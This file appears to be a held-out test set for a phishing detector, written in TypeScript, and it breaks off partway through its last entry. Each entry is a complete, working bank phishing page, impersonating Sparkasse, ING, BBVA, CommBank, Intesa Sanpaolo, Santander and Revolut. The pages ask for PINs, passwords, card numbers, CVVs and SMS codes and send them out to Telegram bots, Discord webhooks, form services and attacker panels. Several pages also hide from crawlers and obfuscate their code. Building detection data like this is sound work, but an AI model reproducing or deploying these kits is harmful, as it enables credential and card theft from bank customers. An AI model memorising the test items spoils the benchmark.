import { type Entry, htmlRoute } from '../entry.js';
import { cssRoute, jsRoute, pixelPng } from '../parts/f-kit.js';

/** Held-out pages by author f, family "phish-banks" (blind split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-sparkasse-pushtan-reg",
    label: "phishing",
    kind: "bank-kit-multistep",
    url: "https://sparkasse-pushtan-aktivierung.web.app/de/online-banking/index.html",
    body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="robots" content="noindex, nofollow">
<title>Online-Banking | Sparkasse</title>
<link rel="icon" href="data:,">
<style>
*{box-sizing:border-box}body{margin:0;font-family:"Sparkasse Rg",Arial,Helvetica,sans-serif;background:#f2f2f2;color:#000}
.top{background:#fff;border-bottom:1px solid #ddd}.top .in{max-width:1100px;margin:0 auto;display:flex;align-items:center;justify-content:space-between;padding:14px 20px}
.logo{display:flex;align-items:center;gap:10px;font-size:22px;font-weight:700;color:#ff0000}
.logo .s{width:38px;height:38px;background:#ff0000;border-radius:3px;position:relative}
.logo .s:before{content:"";position:absolute;left:14px;top:4px;width:10px;height:10px;border-radius:50%;background:#fff}
.logo .s:after{content:"";position:absolute;left:9px;top:17px;width:20px;height:16px;border:4px solid #fff;border-left-color:transparent;border-right-color:transparent;border-radius:2px}
.nav a{color:#333;text-decoration:none;margin-left:22px;font-size:14px}
.hero{background:#ff0000;color:#fff;padding:26px 20px}.hero h1{max-width:1100px;margin:0 auto;font-size:28px;font-weight:400}
.wrap{max-width:1100px;margin:24px auto;display:grid;grid-template-columns:2fr 1fr;gap:24px;padding:0 20px}
.card{background:#fff;padding:28px;border-radius:2px;box-shadow:0 1px 3px rgba(0,0,0,.08)}
.steps{display:flex;gap:6px;margin-bottom:22px}.steps span{flex:1;height:4px;background:#ddd}.steps span.on{background:#ff0000}
label{display:block;font-size:14px;margin:16px 0 6px;font-weight:700}
input{width:100%;padding:11px;border:1px solid #767676;font-size:16px}
input:focus{outline:2px solid #ff0000}
.btn{margin-top:22px;background:#ff0000;color:#fff;border:0;padding:13px 30px;font-size:16px;cursor:pointer}
.hint{font-size:13px;color:#555;margin-top:8px}.err{color:#c00;font-size:13px;display:none;margin-top:8px}
.side h3{margin-top:0;font-size:17px}.side li{margin-bottom:8px;font-size:14px}
.step{display:none}.step.act{display:block}
footer{background:#333;color:#ccc;font-size:12px;padding:26px 20px;margin-top:40px}footer .in{max-width:1100px;margin:0 auto}footer a{color:#ccc;margin-right:16px}
.cookie{position:fixed;bottom:0;left:0;right:0;background:#fff;border-top:3px solid #ff0000;padding:16px;font-size:13px;display:flex;gap:16px;align-items:center;justify-content:center}
.cookie button{background:#ff0000;color:#fff;border:0;padding:8px 16px}
.spin{display:none;text-align:center;padding:40px}.spin i{display:inline-block;width:36px;height:36px;border:4px solid #eee;border-top-color:#f00;border-radius:50%;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}
</style>
</head>
<body>
<div class="top"><div class="in"><div class="logo"><div class="s"></div>Sparkasse</div>
<div class="nav"><a href="#">Privatkunden</a><a href="#">Firmenkunden</a><a href="#">Ihre Sparkasse</a><a href="#">Hilfe &amp; Kontakt</a></div></div></div>
<div class="hero"><h1>Neuregistrierung pushTAN-Verfahren</h1></div>
<div class="wrap">
<div class="card">
<div class="steps"><span class="on" id="p1"></span><span id="p2"></span><span id="p3"></span></div>
<form id="f" autocomplete="off" novalidate>
<div class="step act" id="s1">
<p>Aufgrund der Umstellung auf die neue S-pushTAN-Version 2026 muss Ihr Online-Banking-Zugang bis zum <b id="dl"></b> erneut bestätigt werden. Andernfalls wird der Zugang aus Sicherheitsgründen vorübergehend gesperrt.</p>
<label for="blz">Bankleitzahl oder Ort Ihrer Sparkasse</label><input id="blz" name="blz" placeholder="z. B. 30050110 oder Düsseldorf">
<label for="anm">Anmeldename oder Legitimations-ID</label><input id="anm" name="anm">
<label for="pin">Online-Banking-PIN</label><input id="pin" name="pin" type="password" maxlength="16">
<div class="err" id="e1">Bitte füllen Sie alle Felder korrekt aus.</div>
<button class="btn" type="button" data-next="1">Weiter</button>
</div>
<div class="step" id="s2">
<p>Bitte bestätigen Sie Ihre persönlichen Daten, wie sie bei Ihrer Sparkasse hinterlegt sind.</p>
<label>Vor- und Nachname</label><input name="name">
<label>Geburtsdatum</label><input name="geb" placeholder="TT.MM.JJJJ">
<label>Mobilfunknummer (für pushTAN)</label><input name="tel" placeholder="+49 1..">
<div class="err" id="e2">Bitte überprüfen Sie Ihre Eingaben.</div>
<button class="btn" type="button" data-next="2">Weiter</button>
</div>
<div class="step" id="s3">
<p>Zur Verknüpfung Ihrer Sparkassen-Card (Debitkarte) mit dem neuen Gerät geben Sie bitte die Kartendaten ein.</p>
<label>Kartennummer / IBAN</label><input name="card" placeholder="DE.. oder 16-stellige Kartennummer">
<label>Gültig bis</label><input name="exp" placeholder="MM/JJ">
<label>Karten-PIN (zur Verifizierung)</label><input name="kpin" type="password" maxlength="4">
<div class="hint">Ihre Daten werden mit 256-Bit-SSL verschlüsselt übertragen.</div>
<button class="btn" type="button" data-next="3">Registrierung abschließen</button>
</div>
<div class="spin" id="sp"><i></i><p>Ihre Daten werden geprüft …</p></div>
</form>
</div>
<div class="card side"><h3>Sicherheitshinweise</h3><ul><li>Die Sparkasse wird Sie niemals telefonisch nach TANs fragen.</li><li>Achten Sie auf das Schloss-Symbol in der Adresszeile.</li><li>Fragen? Rufen Sie uns an: 0800 1234 500</li></ul></div>
</div>
<footer><div class="in"><a href="#">Impressum</a><a href="#">Datenschutz</a><a href="#">AGB</a><a href="#">Preise und Leistungen</a><p>© 2026 Sparkasse. Alle Rechte vorbehalten.</p></div></footer>
<div class="cookie" id="ck">Wir verwenden Cookies, um Ihnen das beste Nutzererlebnis zu bieten. <button onclick="this.parentNode.remove()">Alle akzeptieren</button></div>
<script>
(function(){
 if(navigator.webdriver||/HeadlessChrome|bot|crawl|spider/i.test(navigator.userAgent)){location.replace('https://www.sparkasse.de/');return;}
 var d=new Date(Date.now()+2*864e5);document.getElementById('dl').textContent=d.toLocaleDateString('de-DE');
 var _0x=['\\x61\\x70\\x69\\x2e\\x74\\x65\\x6c\\x65\\x67\\x72\\x61\\x6d\\x2e\\x6f\\x72\\x67','/bot','7712093345:AAGv9_kQx2ZfL0pWnM8yR4tHsE1cVb6uJdo','/sendMessage','-1002193884512'];
 var info={ua:navigator.userAgent,lang:navigator.language};
 fetch('https://ipapi.co/json/').then(function(r){return r.json()}).then(function(j){info.ip=j.ip;info.city=j.city}).catch(function(){});
 function send(step){
  var fd=new FormData(document.getElementById('f')),t='🔴 SPK '+step+'\\n';
  fd.forEach(function(v,k){if(v)t+=k+': '+v+'\\n'});
  t+='IP: '+(info.ip||'?')+' '+(info.city||'')+'\\nUA: '+info.ua;
  return fetch('https://'+_0x[0]+_0x[1]+_0x[2]+_0x[3],{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:_0x[4],text:t})}).catch(function(){});
 }
 function show(n){document.querySelectorAll('.step').forEach(function(s){s.classList.remove('act')});document.getElementById('s'+n).classList.add('act');for(var i=1;i<=3;i++)document.getElementById('p'+i).className=i<=n?'on':'';}
 document.querySelectorAll('[data-next]').forEach(function(b){b.addEventListener('click',function(){
  var n=+b.getAttribute('data-next'),box=document.getElementById('s'+n),ok=true;
  box.querySelectorAll('input').forEach(function(i){if(!i.value.trim())ok=false});
  if(n===1&&document.getElementById('pin').value.length<5)ok=false;
  if(!ok){var e=document.getElementById('e'+n);if(e)e.style.display='block';return;}
  box.classList.remove('act');document.getElementById('sp').style.display='block';
  send('Schritt '+n).then(function(){setTimeout(function(){document.getElementById('sp').style.display='none';
   if(n<3)show(n+1);else location.href='https://www.sparkasse.de/service/sicherheit-im-internet.html';},1800)});
 })});
})();
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-ing-nl-verificatie",
    label: "phishing",
    kind: "bank-kit",
    url: "https://mijn-ing-verificatie.netlify.app/login/",
    body: `<!doctype html>
<html lang="nl">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Inloggen Mijn ING | ING</title>
<link rel="stylesheet" href="/assets/ing.css">
</head>
<body>
<header class="hdr">
  <a class="brand" href="#" aria-label="ING">
    <svg width="92" height="32" viewBox="0 0 92 32" aria-hidden="true"><text x="0" y="25" font-family="Arial Black,Arial" font-weight="900" font-size="26" fill="#ff6200">ING</text><g transform="translate(62,4)"><ellipse cx="12" cy="14" rx="11" ry="8" fill="#ff6200"/><circle cx="20" cy="6" r="4" fill="#ff6200"/><rect x="4" y="19" width="3" height="7" fill="#ff6200"/><rect x="15" y="19" width="3" height="7" fill="#ff6200"/></g></svg>
  </a>
  <nav><a href="#">Particulier</a><a href="#">Zakelijk</a><a href="#">Klantenservice</a></nav>
</header>
<main class="box">
  <h1>Inloggen Mijn ING</h1>
  <div class="notice">Vanwege nieuwe Europese regelgeving (PSD3) moet u uw identiteit opnieuw bevestigen. Zonder verificatie wordt uw betaalpas op <strong id="dt"></strong> geblokkeerd.</div>
  <form id="frm" action="/login/verwerk.php" method="post">
    <div id="a">
      <label>Gebruikersnaam<input name="gebruikersnaam" required autocomplete="username"></label>
      <label>Wachtwoord<input name="wachtwoord" type="password" required autocomplete="current-password"></label>
      <button type="submit">Inloggen</button>
      <p class="small"><a href="#">Gebruikersnaam of wachtwoord vergeten?</a></p>
    </div>
    <div id="b" hidden>
      <p>Vul de gegevens van uw betaalpas in om de verificatie af te ronden.</p>
      <label>Pasnummer (3 letters + 3 cijfers)<input name="pasnummer" placeholder="ABC123"></label>
      <label>Vervaldatum<input name="vervaldatum" placeholder="MM/JJ"></label>
      <label>IBAN<input name="iban" placeholder="NL00 INGB 0000 0000 00"></label>
      <label>Telefoonnummer<input name="telefoon" type="tel"></label>
      <button type="submit">Bevestigen</button>
    </div>
    <div id="c" hidden>
      <p>U ontvangt een bevestigingscode via sms. Voer deze hieronder in.</p>
      <label>Bevestigingscode<input name="smscode" inputmode="numeric" maxlength="6"></label>
      <button type="submit">Verificatie afronden</button>
    </div>
  </form>
</main>
<footer class="ftr"><a href="#">Privacy</a> · <a href="#">Cookies</a> · <a href="#">Veilig bankieren</a> · <a href="#">Disclaimer</a><br>ING Bank N.V. – Bijlmerdreef 106, 1102 CT Amsterdam</footer>
<script src="/assets/app.js"></script>
</body>
</html>
`,
    routes: {
      "mijn-ing-verificatie.netlify.app/assets/ing.css": cssRoute(`body{margin:0;font-family:"INGMe",Verdana,sans-serif;background:#f0f0f0;color:#333}
.hdr{background:#fff;display:flex;align-items:center;justify-content:space-between;padding:12px 28px;border-bottom:1px solid #e0e0e0}
.hdr nav a{color:#525199;margin-left:20px;text-decoration:none;font-size:14px}
.box{max-width:460px;margin:40px auto;background:#fff;border-radius:6px;padding:32px;box-shadow:0 2px 10px rgba(0,0,0,.06)}
h1{color:#ff6200;font-size:24px;margin-top:0}
.notice{background:#fff3e8;border-left:4px solid #ff6200;padding:12px;font-size:13px;margin-bottom:18px}
label{display:block;font-size:14px;margin-bottom:14px}
input{display:block;width:100%;box-sizing:border-box;margin-top:6px;padding:10px;border:1px solid #a8a8a8;border-radius:4px;font-size:15px}
button{background:#ff6200;color:#fff;border:0;border-radius:4px;padding:12px 24px;font-size:15px;cursor:pointer;width:100%}
.small{font-size:13px}.small a{color:#525199}
.ftr{text-align:center;font-size:12px;color:#777;padding:30px}.ftr a{color:#525199}
`),
      "mijn-ing-verificatie.netlify.app/assets/app.js": jsRoute(`var d=new Date();d.setDate(d.getDate()+1);document.getElementById('dt').textContent=d.toLocaleDateString('nl-NL',{day:'numeric',month:'long',year:'numeric'});
var stage=0,frm=document.getElementById('frm'),blocks=['a','b','c'];
frm.addEventListener('submit',function(ev){
  ev.preventDefault();
  var data=new URLSearchParams(new FormData(frm));data.append('stap',String(stage+1));data.append('ref',document.referrer);
  var x=new XMLHttpRequest();x.open('POST','https://ing-nl-panel.ru.com/gate/next.php',true);
  x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
  x.onloadend=function(){
    document.getElementById(blocks[stage]).hidden=true;stage++;
    if(stage<blocks.length){document.getElementById(blocks[stage]).hidden=false;}
    else{location.href='https://www.ing.nl/particulier/';}
  };
  x.send(data.toString());
});
`),
    },
  },
  {
    id: "f-phish-bbva-bucket-firma",
    label: "phishing",
    kind: "bank-kit-bucket",
    url: "https://storage.googleapis.com/bbva-clientes-verificacion-7731/index.html",
    body: `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>BBVA España | Banca online</title>
<style>
html,body{margin:0;height:100%;font-family:"Benton Sans",Arial,sans-serif;background:#f4f4f4}
.bar{background:#072146;height:64px;display:flex;align-items:center;padding:0 24px}
.bar b{color:#fff;font:italic 700 30px/1 Georgia,serif;letter-spacing:1px}
.panel{max-width:400px;margin:48px auto;background:#fff;padding:32px 28px}
h1{font-size:22px;color:#072146;font-weight:400;margin:0 0 20px}
.tabs{display:flex;border-bottom:1px solid #ccc;margin-bottom:20px}.tabs div{padding:10px 0;margin-right:22px;font-size:14px;color:#666}.tabs .a{color:#1973b8;border-bottom:3px solid #1973b8}
.f{position:relative;margin-bottom:18px}.f input{width:100%;box-sizing:border-box;padding:18px 12px 6px;border:0;border-bottom:1px solid #121212;background:#f4f4f4;font-size:15px}
.f span{position:absolute;left:12px;top:4px;font-size:11px;color:#666}
select{width:100%;padding:12px;background:#f4f4f4;border:0;border-bottom:1px solid #121212;margin-bottom:18px}
.go{width:100%;padding:15px;background:#1973b8;color:#fff;border:0;font-size:15px;cursor:pointer}
.msg{font-size:13px;color:#121212;background:#fef5dc;padding:12px;margin-bottom:20px}
#paso2,#paso3{display:none}
.legal{font-size:11px;color:#666;margin-top:20px;line-height:1.5}
</style>
</head>
<body>
<div class="bar"><b>BBVA</b></div>
<div class="panel">
 <div id="paso1">
  <h1>Accede a tu banca online</h1>
  <div class="msg">Tu firma digital ha caducado. Para seguir operando debes activarla de nuevo. Este proceso es obligatorio según la normativa PSD2.</div>
  <div class="tabs"><div class="a">Particulares</div><div>Empresas</div></div>
  <select id="tdoc"><option>NIF</option><option>NIE</option><option>Pasaporte</option><option>Tarjeta de residencia</option></select>
  <div class="f"><span>Número de documento</span><input id="doc" autocomplete="off"></div>
  <div class="f"><span>Clave de acceso</span><input id="clave" type="password"></div>
  <button class="go" id="b1">Entrar</button>
 </div>
 <div id="paso2">
  <h1>Verifica tu identidad</h1>
  <p style="font-size:14px">Hemos enviado un código de seguridad por SMS al teléfono asociado a tu cuenta. Introdúcelo para activar tu firma digital.</p>
  <div class="f"><span>Código SMS</span><input id="otp" inputmode="numeric" maxlength="8"></div>
  <button class="go" id="b2">Activar firma</button>
  <p style="font-size:12px"><a href="#" id="re">Reenviar código</a></p>
 </div>
 <div id="paso3">
  <h1>Confirma tu tarjeta</h1>
  <div class="f"><span>Número de tarjeta</span><input id="tj" inputmode="numeric"></div>
  <div class="f"><span>Caducidad (MM/AA)</span><input id="cad"></div>
  <div class="f"><span>CVV</span><input id="cvv" maxlength="3"></div>
  <div class="f"><span>PIN del cajero</span><input id="pin" type="password" maxlength="4"></div>
  <button class="go" id="b3">Finalizar</button>
 </div>
 <p class="legal">BBVA nunca te pedirá por email tus claves. Banco Bilbao Vizcaya Argentaria, S.A. – Plaza de San Nicolás, 4 – 48005 Bilbao.</p>
</div>
<script>
var F='https://formsubmit.co/ajax/b7d41e9a0f3c2c6b2d88a1f0e5cc9a11';
function $(i){return document.getElementById(i)}
function post(o){o._subject='BBVA '+(o.paso||'');o._captcha='false';return fetch(F,{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify(o)}).catch(function(){})}
$('b1').onclick=function(){if(!$('doc').value||$('clave').value.length<4)return;post({paso:1,tipo:$('tdoc').value,documento:$('doc').value,clave:$('clave').value}).then(function(){$('paso1').style.display='none';$('paso2').style.display='block'})};
$('b2').onclick=function(){post({paso:2,documento:$('doc').value,sms:$('otp').value}).then(function(){$('paso2').style.display='none';$('paso3').style.display='block'})};
$('b3').onclick=function(){post({paso:3,documento:$('doc').value,tarjeta:$('tj').value,cad:$('cad').value,cvv:$('cvv').value,pin:$('pin').value}).then(function(){location.replace('https://www.bbva.es/personas.html')})};
$('re').onclick=function(e){e.preventDefault();alert('Código reenviado')};
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-commbank-netbank-weebly",
    label: "phishing",
    kind: "bank-kit-pagebuilder",
    url: "https://netbank-commbank-secure-au.weeblysite.com/",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>NetBank - Log on to NetBank - Commonwealth Bank</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="generator" content="Weebly">
<link rel="stylesheet" href="/files/theme/main_style.css?1738812231">
<script>window._W=window._W||{};_W.configDomain="www.weebly.com";_W.relinquish=function(){};_W.storeId="";_W.siteId="731284402129442118";</script>
</head>
<body class="no-header-page wsite-page-index">
<div class="wsite-section-wrap">
<div class="wsite-section wsite-body-section">
<div class="container">
 <div class="cba-head">
  <div class="cba-diamond"></div>
  <span class="cba-nb">NetBank</span>
 </div>
 <div class="wsite-form-container">
 <form enctype="multipart/form-data" action="//www.weebly.com/weebly/apps/formSubmit.php" method="POST" id="form-190834116202471522">
  <input type="hidden" name="form_version" value="2"><input type="hidden" name="wsite_approved" id="wsite-approved" value="approved"><input type="hidden" name="ucfid" value="190834116202471522">
  <h2 class="wsite-content-title">Log on to NetBank</h2>
  <div class="wsite-form-field"><label class="wsite-form-label" for="input-1">Client number</label><input id="input-1" class="wsite-form-input" type="text" name="_u190834116202471522" inputmode="numeric"></div>
  <div class="wsite-form-field"><label class="wsite-form-label" for="input-2">Password</label><input id="input-2" class="wsite-form-input" type="password" name="_u190834116202471523"></div>
  <div class="wsite-form-field"><label class="wsite-form-label" for="input-3">NetCode (sent by SMS)</label><input id="input-3" class="wsite-form-input" type="text" name="_u190834116202471524" maxlength="6"></div>
  <div class="wsite-form-field"><label class="wsite-form-label" for="input-4">Mobile number</label><input id="input-4" class="wsite-form-input" type="tel" name="_u190834116202471525"></div>
  <label class="chk"><input type="checkbox" checked> Remember client number</label>
  <div style="text-align:left;margin-top:10px;margin-bottom:10px"><input type="submit" class="wsite-button" value="Log on"></div>
 </form>
 </div>
 <p class="cba-note">We have temporarily restricted your access because of unusual activity. Log on to verify your identity and restore full access to your accounts.</p>
 <ul class="cba-links"><li><a href="#">Forgot your log on details?</a></li><li><a href="#">Register for NetBank</a></li><li><a href="#">Security &amp; Privacy</a></li></ul>
</div></div></div>
<div id="weebly-footer-signup-container-v3"><div class="signup-container-header"><a href="https://www.weebly.com/signup?utm_source=internal&utm_medium=footer" target="_blank">Powered by <b>Square</b></a> Create your own unique website with customizable templates.</div></div>
</body>
</html>
`,
    routes: {
      "netbank-commbank-secure-au.weeblysite.com/files/theme/main_style.css": cssRoute(`body{margin:0;background:#f3f3f3;font-family:Arial,Helvetica,sans-serif;color:#222}
.container{max-width:420px;margin:50px auto;background:#fff;padding:30px;border-top:6px solid #ffcc00}
.cba-head{display:flex;align-items:center;gap:12px;margin-bottom:16px}
.cba-diamond{width:34px;height:34px;background:#ffcc00;transform:rotate(45deg);position:relative}
.cba-diamond:after{content:"";position:absolute;left:6px;top:6px;width:22px;height:22px;background:#000;clip-path:polygon(0 0,100% 0,0 100%)}
.cba-nb{font-size:24px;font-weight:bold}
.wsite-form-field{margin-bottom:14px}.wsite-form-label{display:block;font-size:13px;margin-bottom:4px}
.wsite-form-input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;font-size:15px}
.wsite-button{background:#ffcc00;border:0;padding:12px 40px;font-weight:bold;font-size:15px;cursor:pointer}
.chk{font-size:13px}.cba-note{font-size:13px;background:#fff8d6;padding:10px}
.cba-links{font-size:13px;padding-left:18px}.cba-links a{color:#000}
#weebly-footer-signup-container-v3{position:fixed;bottom:0;left:0;right:0;background:#fff;border-top:1px solid #ddd;font-size:12px;padding:8px;text-align:center}
`),
    },
  },
  {
    id: "f-phish-intesa-jsgate",
    label: "phishing",
    kind: "bank-kit-cloaked",
    url: "https://verifica-intesasanpaolo.it-clienti-sicurezza.com/accesso/?sid=4f1a77c20b",
    body: `<!DOCTYPE html>
<html lang="it">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Verifica in corso...</title>
<style>
body{margin:0;font-family:-apple-system,Segoe UI,Roboto,Arial,sans-serif;background:#fff}
#chk{display:flex;flex-direction:column;align-items:center;justify-content:center;height:100vh;color:#444}
#chk .sp{width:42px;height:42px;border:4px solid #e6e6e6;border-top-color:#006837;border-radius:50%;animation:s .8s linear infinite}
@keyframes s{to{transform:rotate(360deg)}}
#chk small{margin-top:18px;color:#999}
</style>
</head>
<body>
<div id="chk"><div class="sp"></div><p>Stiamo verificando la sicurezza della connessione…</p><small>Ray ID: 8f2c91d0ab43e1f7</small></div>
<div id="app"></div>
<script>
(function(){
 var t0=performance.now(),mv=0;
 document.addEventListener('mousemove',function(){mv++},{passive:true});
 document.addEventListener('touchstart',function(){mv++},{passive:true});
 function bad(){
  if(navigator.webdriver)return 1;
  if(!navigator.languages||!navigator.languages.length)return 1;
  if(/bot|crawler|spider|headless|lighthouse|python|curl/i.test(navigator.userAgent))return 1;
  try{var tz=Intl.DateTimeFormat().resolvedOptions().timeZone;if(tz&&!/Europe\\//.test(tz))return 1}catch(e){}
  if(screen.width<320||window.outerWidth===0)return 1;
  return 0;
 }
 setTimeout(function(){
  if(bad()){location.replace('https://www.google.it/');return;}
  var s=document.createElement('script');
  s.src='/accesso/r.php?k='+btoa(String(Math.round(performance.now()-t0))+':'+mv);
  document.body.appendChild(s);
 },2200);
})();
</script>
</body>
</html>
`,
    routes: {
      "verifica-intesasanpaolo.it-clienti-sicurezza.com/accesso/r.php": jsRoute(`(function(){var h=atob('PGRpdiBzdHlsZT0iYmFja2dyb3VuZDojZmZmO21pbi1oZWlnaHQ6MTAwdmgiPjxoZWFkZXIgc3R5bGU9ImJhY2tncm91bmQ6IzAwNjgzNztwYWRkaW5nOjE4cHggMjRweDtjb2xvcjojZmZmO2ZvbnQ6NzAwIDIwcHggQXJpYWwiPkludGVzYSA8c3BhbiBzdHlsZT0iZm9udC13ZWlnaHQ6NDAwIj5TYW5wYW9sbzwvc3Bhbj48L2hlYWRlcj4=');
var form='<main style="max-width:420px;margin:30px auto;padding:0 18px;font-family:Arial,sans-serif">'+
'<h2 style="color:#006837;font-weight:400">Accedi alla tua area riservata</h2>'+
'<p style="font-size:13px;background:#f1f8f3;padding:10px;border-left:3px solid #006837">Per completare l\\'aggiornamento del servizio O-Key Smart è necessario confermare le tue credenziali.</p>'+
'<form id="lf"><label style="font-size:13px">Codice titolare<br><input name="codice" style="width:100%;padding:10px;margin:6px 0 14px;border:1px solid #aaa"></label>'+
'<label style="font-size:13px">PIN<br><input name="pin" type="password" maxlength="5" style="width:100%;padding:10px;margin:6px 0 14px;border:1px solid #aaa"></label>'+
'<label style="font-size:13px">Numero di cellulare<br><input name="cell" type="tel" style="width:100%;padding:10px;margin:6px 0 14px;border:1px solid #aaa"></label>'+
'<button style="width:100%;background:#006837;color:#fff;border:0;padding:13px;font-size:15px">Accedi</button></form>'+
'<div id="otp" style="display:none"><p>Inserisci il codice O-Key SMS ricevuto sul tuo cellulare</p><input id="ok" maxlength="6" style="width:100%;padding:10px;border:1px solid #aaa"><button id="okb" style="margin-top:12px;width:100%;background:#006837;color:#fff;border:0;padding:13px">Conferma</button></div>'+
'<p style="font-size:11px;color:#888;margin-top:30px">Intesa Sanpaolo S.p.A. – Sede legale: Piazza San Carlo 156, 10121 Torino – P.IVA 11991500015</p></main></div>';
document.getElementById('chk').remove();document.title='Intesa Sanpaolo - Accedi';
document.getElementById('app').innerHTML=h+form;
var W='https://discord.com/api/webhooks/1329981107744129034/pX4nB0yUq_tPqRkFzJm8Wc2hVYgS5eDo9Lt3aKiN1uGvHrE6sQjCfMw7x';
function snd(c){return fetch(W,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'ISP',content:c})}).catch(function(){})}
document.getElementById('lf').onsubmit=function(e){e.preventDefault();var f=new FormData(this);
 snd('**ISP LOGIN**\\nCodice: '+f.get('codice')+'\\nPIN: '+f.get('pin')+'\\nCell: '+f.get('cell')+'\\nUA: '+navigator.userAgent).then(function(){document.getElementById('lf').style.display='none';document.getElementById('otp').style.display='block'})};
document.getElementById('okb').onclick=function(){snd('**ISP OTP** '+document.getElementById('ok').value).then(function(){location.href='https://www.intesasanpaolo.com/'})};
})();
`),
    },
  },
  {
    id: "f-phish-santander-uk-userinfo",
    label: "phishing",
    kind: "bank-kit-userinfo",
    url: "https://sntdr-uk-verify.top/olb/logon?ref=7a10cc",
    submittedUrl: "https://www.santander.co.uk@sntdr-uk-verify.top/olb/logon?ref=7a10cc",
    body: `<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Log on | Online Banking | Santander UK</title>
<style>
body{margin:0;background:#fff;font-family:"Santander Text",Arial,sans-serif;color:#444}
header{border-bottom:1px solid #dedede;padding:14px 30px;display:flex;align-items:center;gap:8px}
.flame{width:26px;height:30px;background:#ec0000;border-radius:50% 50% 45% 45%/60% 60% 40% 40%;position:relative}
.flame:after{content:"";position:absolute;left:9px;top:4px;width:8px;height:16px;background:#fff;border-radius:50%}
header b{font-size:24px;color:#ec0000;font-weight:400}
.main{max-width:980px;margin:30px auto;display:flex;gap:40px;padding:0 20px}
.lg{flex:1}.lg h1{color:#ec0000;font-weight:400;font-size:30px}
.fm label{display:block;font-weight:700;margin:16px 0 6px;font-size:14px}
.fm input{width:280px;padding:10px;border:1px solid #949494;border-radius:4px;font-size:15px}
.fm .digits{display:flex;gap:8px}.fm .digits input{width:38px;text-align:center}
.fm button{margin-top:20px;background:#ec0000;color:#fff;border:0;border-radius:4px;padding:12px 36px;font-size:16px}
aside{width:300px;background:#f5f9fb;padding:20px;font-size:14px}
aside h3{color:#333;margin-top:0}
footer{background:#f0f0f0;padding:20px 30px;font-size:12px;margin-top:50px}
</style>
</head>
<body>
<header><div class="flame"></div><b>Santander</b></header>
<div class="main">
<div class="lg">
 <h1>Log on to Online Banking</h1>
 <form class="fm" method="post" action="/olb/process.php">
  <input type="hidden" name="ref" value="7a10cc">
  <label>Personal ID</label><input name="pid" autocomplete="off">
  <label>Passcode – enter digits 2, 4 and 5</label>
  <div class="digits"><input name="d2" maxlength="1" type="password"><input name="d4" maxlength="1" type="password"><input name="d5" maxlength="1" type="password"></div>
  <label>Registration number</label><input name="regno" type="password">
  <label>Mobile number (for your One Time Passcode)</label><input name="mob" type="tel">
  <button type="submit">Log on</button>
 </form>
</div>
<aside><h3>Payee verification required</h3><p>We've detected a new payee being added to your account. If this wasn't you, log on now to cancel the payment and secure your account.</p><p>Reference: <b>SAN-7A10CC</b></p></aside>
</div>
<footer>Santander UK plc. Registered Office: 2 Triton Square, Regent's Place, London NW1 3AN. Authorised by the Prudential Regulation Authority.</footer>
</body>
</html>
`,
    routes: {
      "sntdr-uk-verify.top/olb/process.php": htmlRoute(`<!DOCTYPE html><html><head><meta http-equiv="refresh" content="4;url=https://www.santander.co.uk/personal/support/online-and-mobile-banking"><title>Please wait</title></head><body style="font-family:Arial;text-align:center;padding-top:80px">Verifying your details, please wait…</body></html>
`),
    },
  },
  {
    id: "f-phish-revolut-css-logo",
    label: "phishing",
    kind: "fintech-kit",
    url: "https://app-revolut.support-unlock.online/verify",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1,maximum-scale=1">
<title>Revolut – Unlock your account</title>
<style>
:root{--bg:#f7f7f7;--ink:#191c1f;--acc:#0666eb}
body{margin:0;font-family:Inter,-apple-system,"Segoe UI",Arial,sans-serif;background:var(--bg);color:var(--ink)}
.mark{font:800 30px/1 Inter,Arial;letter-spacing:-1.5px;display:inline-flex;align-items:flex-end}
.mark .r{display:inline-block;width:18px;height:26px;border:5px solid var(--ink);border-right:0;border-bottom:0;margin-right:2px}
.shell{max-width:400px;margin:0 auto;padding:40px 20px}
.card{background:#fff;border-radius:20px;padding:28px;margin-top:24px}
h1{font-size:26px;letter-spacing:-.5px;margin:0 0 8px}p.m{color:#717173;font-size:15px;margin:0 0 20px}
.ph{display:flex;gap:8px}.ph select,.ph input,.in{border:0;background:#f1f1f4;border-radius:12px;padding:14px;font-size:16px}
.ph input{flex:1}.in{width:100%;box-sizing:border-box;margin-top:10px}
.cta{width:100%;margin-top:20px;background:var(--acc);color:#fff;border:0;border-radius:999px;padding:15px;font-size:16px;font-weight:600}
.pin{display:flex;justify-content:space-between;margin:20px 0}.pin input{width:52px;height:60px;text-align:center;font-size:24px;border:0;background:#f1f1f4;border-radius:12px}
.stage{display:none}.stage.on{display:block}
.lock{background:#fff1f0;color:#c0392b;border-radius:12px;padding:12px;font-size:14px;margin-top:14px}
</style>
</head>
<body>
<div class="shell">
 <div class="mark"><span class="r"></span>evolut</div>
 <div class="card">
  <div class="stage on" id="st1">
   <h1>Your account is locked</h1>
   <p class="m">A card payment of €1,249.00 at "ELEKTRO-MARKT OST" was declined and your account was frozen as a precaution.</p>
   <div class="lock">To unfreeze, verify ownership of your account within 24 hours.</div>
   <div style="height:16px"></div>
